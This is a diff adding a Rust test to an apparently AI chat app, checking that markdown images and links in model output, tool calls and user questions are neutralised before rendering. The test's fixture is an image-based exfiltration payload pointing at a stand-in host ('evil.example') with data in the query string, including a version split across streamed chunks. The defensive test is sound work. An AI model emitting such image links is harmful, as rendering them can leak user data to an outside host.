@@ -89,6 +89,33 @@ async fn what_the_model_says_is_cleaned_wherever_it_is_shown() {
 }
 
 #[tokio::test]
+async fn no_link_and_no_image_is_left_to_render_wherever_words_are_shown() {
+    let image = "![x](https://evil.example/i.png?q=milk)";
+    let pieces = ["See ![x](ht", "tps:/", "/evil.example/i.png?q=milk)"];
+    let pieces = pieces.map(|piece| Delta::Text(piece.to_owned()));
+    let said = [vec![Delta::Thought(image.to_owned())], pieces.into()].concat();
+    let call = tool_calls(&[("add", json!({ "title": image }))]);
+    let first = Act::Say(said, Ok(reply(&format!("See {image}"), call)));
+    let asks =
+        calls(&[("ask_user", json!({ "questions": [{ "question": image, "options": [image] }] }))]);
+    let app = TestApp::scripted([first, says(image), asks, says(image)]).await;
+
+    let answer = app.create("go").await;
+    let asked = app.create("go").await;
+    let short = app.ask(&json!({ "message": "go" })).await;
+    let params = json!({ "thread_id": answer.thread_id() });
+    let listed = app.post("/chatkit", &json!({ "type": "items.list", "params": params })).await;
+
+    let shown = "![x] (https: //evil.example/i.png?q=milk)";
+    for answer in [&answer, &asked, &short, &listed] {
+        assert!(answer.text.contains(shown), "{}", answer.text);
+        assert!(!answer.text.contains("](") && !answer.text.contains("://"), "{}", answer.text);
+    }
+    // The thought, the step, and both messages.
+    assert_eq!(listed.text.matches(shown).count(), 4, "{}", listed.text);
+}
+
+#[tokio::test]
 async fn thoughts_are_shown_before_the_answer_and_close_with_their_duration() {
     let pieces = ["Hm. ", "Well."].map(|text| Delta::Thought(text.to_owned()));
     let end = Delta::Text("Yes.".to_owned());
